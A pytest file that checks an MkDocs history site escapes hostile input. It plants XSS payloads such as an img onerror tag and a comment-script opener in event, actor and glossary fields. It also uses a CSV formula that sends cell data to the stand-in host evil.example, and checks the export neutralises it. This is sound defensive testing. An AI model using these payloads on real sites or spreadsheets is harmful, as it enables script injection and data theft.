"""Hostile values in every field that reaches a page build a site in which
no value becomes markup: checked in the built HTML (every page) and in
Chromium (no dialog opens, no injected element exists).

The payloads are the attacker's classics: a raw tag with an event handler,
the same tag written with entities (``striptags`` decodes them), and
``<!--<script>`` (which, unescaped inside a JSON-LD ``<script>``, swallows
the rest of the page). They go into event titles and summaries, a period
title, an actor name, a glossary expansion and a source title.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from tests.helpers import (
    ScriptsParser,
    knowledge_copy,
    mkdocs_build,
    replace_entry_line,
    subprocess_env,
)

pytest_plugins = ["tests.browser_support"]

TAG = "<img src=x onerror=alert(1)>"
ENTITIES = "&lt;img src=x onerror=alert(1)&gt;"
COMMENT = "<!--<script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "Soviet arms embargo")'

#: (kind, the line as in tests/fixtures/knowledge or sources/catalog/, its hostile version); a
#: body line (summary, note text) is Markdown, not YAML: no quotes there.
MUTATIONS = [
    ("events", "title: Russian military personnel at the siege of Baghdad",
     f"title: 'Russian personnel {TAG} at the siege'"),
    ("events", "title: Diplomatic relations established",
     f"title: '{ENTITIES} relations established'"),
    ("events", "title: Friendship treaty",
     f"title: 'Friendship {COMMENT} treaty'"),
    ("events", "Russia helped the Persians besiege Baghdad.[[wikipedia-iraq-russia-relations/p3]]",
     f"Russia helped {TAG} and {ENTITIES} and {COMMENT}.[[wikipedia-iraq-russia-relations/p3]]"),
    ("events", "    - label: Exports cut off in 1987", f"    - label: 'Exports {TAG} {COMMENT}'"),
    ("periods", "title: Early contacts", f"title: 'Early {TAG} contacts'"),
    # A name or expansion that no text uses needs a note (the claims model): any existing one will do here.
    ("actors", "name: Soviet Union", f"name: 'Soviet {COMMENT} Union'\nname_note: il-38-first-flight"),
    # The fixture's UN expansion already rests on a note (expansion_note).
    ("glossary", "expansion: United Nations", f"expansion: 'United {TAG} Nations'"),
    ("notes", "The Il-38 first flew in 1961, so it cannot have been among aircraft sent in 1958.",
     # It is also the actor's name note above: it must write the (hostile) name.
     f"The Il-38 {TAG} first flew in 1961 {COMMENT}, says the Soviet {COMMENT} Union."),
    ("events", "title: Soviet arms embargo", f"title: '{FORMULA}'"),
    ("catalog", "title: Iraq–Russia relations", f"title: '{ENTITIES} {TAG}'"),
]


def _mutate(root: Path) -> None:
    for kind, old, new in MUTATIONS:
        replace_entry_line(root, kind, re.escape(old), new)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = knowledge_copy(tmp_path_factory.mktemp("hostile"))
    _mutate(root)
    site = root.parent / "site"
    built = mkdocs_build(root, site, env=subprocess_env(), quiet=False)
    assert built.returncode == 0, built.describe()
    return site


class _Collect(ScriptsParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        super().handle_starttag(tag, attrs)


def _parse(path: Path) -> _Collect:
    parser = _Collect()
    parser.feed(path.read_text("utf-8"))
    parser.close()
    return parser


@pytest.mark.slow
def test_no_value_becomes_markup_on_any_page(hostile_site):
    pages = sorted(hostile_site.rglob("*.html"))
    assert len(pages) > 20
    seen_payload = 0
    for page in pages:
        text = page.read_text("utf-8")
        seen_payload += "onerror=alert(1)" in text
        parsed = _parse(page)
        injected = [(tag, attrs) for tag, attrs in parsed.tags
                    if any(name.startswith("on") for name in attrs) or (tag == "img" and attrs.get("src") == "x")]
        assert not injected, f"{page.relative_to(hostile_site)}: injected element(s) {injected[:3]}"
        for attrs, content in parsed.scripts:
            data = attrs.get("type") in ("application/ld+json", "application/json")   # data, never run
            assert "alert(1)" not in content or data, \
                f"{page.relative_to(hostile_site)}: a script runs a value: {content[:200]!r}"
            if data:
                assert "<" not in content, f"{page.relative_to(hostile_site)}: '<' inside a JSON script"
                json.loads(content)
    assert seen_payload >= 5, "the payloads did not reach the pages: the test proves nothing"


@pytest.mark.slow
def test_hostile_titles_are_shown_as_typed(hostile_site):
    event = (hostile_site / "events" / "russia-at-the-siege-of-baghdad.html").read_text("utf-8")
    typed = f"Russian personnel {TAG} at the siege"
    ld = next(json.loads(c) for a, c in _parse(hostile_site / "events" / "russia-at-the-siege-of-baghdad.html")
              .scripts if a.get("type") == "application/ld+json")
    assert ld["name"] == typed
    citation = re.search(r'<aside class="page-citation".*?</aside>', event, re.DOTALL).group()
    # Chicago (citeproc-py) title-cases the title's words; the tag stays text.
    assert "“russian personnel &lt;img src=x onerror=alert(1)&gt; at the siege.”" in citation.lower()
    assert "<img" not in citation
    entities = (hostile_site / "events" / "diplomatic-relations-established.html").read_text("utf-8")
    # Shown as the editor typed it: the entity text, not a decoded tag.
    assert "&amp;lt;img src=x onerror=alert(1)&amp;gt; relations established" in entities


@pytest.mark.slow
@pytest.mark.browser
def test_no_script_runs_in_chromium(hostile_site, browser):
    from tests.browser_support import served_in_browser

    dialogs: list[str] = []
    with served_in_browser(hostile_site, browser) as (base, context):
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(f"{page.url}: {dialog.message}"), dialog.dismiss()))
        for path in ("events/russia-at-the-siege-of-baghdad.html", "events/diplomatic-relations-established.html",
                     "events/friendship-treaty.html", "themes/index.html", "timeline.html", "periods/index.html",
                     "glossary.html", "actors/soviet-union.html", "events/index.html", "sources/index.html",
                     "contested.html"):
            response = page.goto(base + path, wait_until="load")
            assert response is not None and response.status == 200, path
            page.wait_for_timeout(150)
            found = page.evaluate("""() => ({
                images: document.querySelectorAll('img[src="x"]').length,
                handlers: [...document.querySelectorAll('*')].filter(
                    e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
                footer: !!document.querySelector('footer'),
            })""")
            assert found["images"] == 0 and found["handlers"] == 0, f"{path}: injected markup {found}"
            assert found["footer"], f"{path}: the page was cut short (a comment or script swallowed it)"
    assert not dialogs, dialogs


@pytest.mark.slow
def test_csv_export_neutralizes_formulas(hostile_site):
    """A cell starting with = + - @ is a formula to a spreadsheet: the
    export prefixes it with an apostrophe (shown, not evaluated)."""
    rows = list(csv.DictReader(io.StringIO((hostile_site / "data" / "events.csv").read_text("utf-8"))))
    titles = [row["title"] for row in rows]
    assert "'" + FORMULA in titles
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
    events = json.loads((hostile_site / "data" / "events.json").read_text("utf-8"))
    assert FORMULA in [event["title"] for event in events], "the JSON export keeps the title as typed"
